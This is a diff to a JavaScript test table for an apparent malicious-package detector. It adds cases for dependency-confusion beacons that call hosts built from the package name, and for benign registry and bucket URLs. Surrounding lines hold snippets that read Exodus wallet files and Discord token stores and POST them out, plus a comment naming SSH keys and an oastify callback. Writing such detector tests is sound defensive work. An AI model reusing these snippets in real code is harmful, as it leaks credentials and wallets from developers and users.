@@ -115,6 +115,11 @@ describe('each rule at its edge (edits of real shapes)', () => {
     ['a wallet folder walked and posted', "for (const f of fs.readdirSync(path.join(os.homedir(), 'AppData', 'Roaming', 'Exodus', 'exodus.wallet'))) fetch(u, { method: 'POST', body: f })", ['credential-read', 'exfiltration']],
     ["Discord's token store walked and posted", "const dir = path.join(process.env.APPDATA, 'discord', 'Local Storage', 'leveldb'); for (const f of fs.readdirSync(dir)) fetch(u, { method: 'POST', body: fs.readFileSync(path.join(dir, f)) })", ['credential-read', 'exfiltration']],
     ['a Firefox profile named without reading it', "const name = 'logins.json'; console.log(name)", []],
+    // A host named after the package itself: the call home of a dependency-confusion probe.
+    ['a GET to a host that begins with the package name', "const package_name = 'internal-lib'; require('http').get(`http://${package_name}.cb.example.net/`)", ['beacon']],
+    ["the package.json's name concatenated into the host", "require('https').get('https://' + require('./package.json').name + '.t.example.org/ping')", ['beacon']],
+    ['the package name in the path of a registry URL', "require('https').get(`https://registry.example.org/${pkg.name}/-/x.tgz`, save)", []],
+    ['a bucket or host variable in the host', "require('https').get(`https://${bucketName}.s3.amazonaws.com/${version}/bin.tgz`, save); fetch(`https://${hostname}.mirror.example.org/x`)", []],
     ['the same words in comments only', "// sends os.hostname() to https://x.oastify.com\n/* eval(atob(x)) ~/.ssh/id_rsa readFileSync */\nconsole.log('ok')", []],
   ])('%s', (_name, code, expected) => {
     expect(flags(code)).toEqual([...expected].sort());
